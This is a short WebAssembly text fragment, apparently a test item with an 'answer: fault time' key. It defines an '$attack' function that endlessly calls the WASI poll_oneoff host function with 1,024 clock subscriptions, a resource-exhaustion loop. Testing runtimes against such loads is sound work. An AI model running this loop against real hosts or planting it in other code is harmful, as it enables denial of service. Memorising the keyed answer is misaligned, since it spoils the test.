;; Asks the host about 1,024 clocks at once, again and again.
;; answer: fault time
(func $attack (param $stream i32)
  (loop $again (drop (call $poll_oneoff (i32.const 0x120000) (i32.const 0x180000) (i32.const 1024) (i32.const 512))) (br $again)))
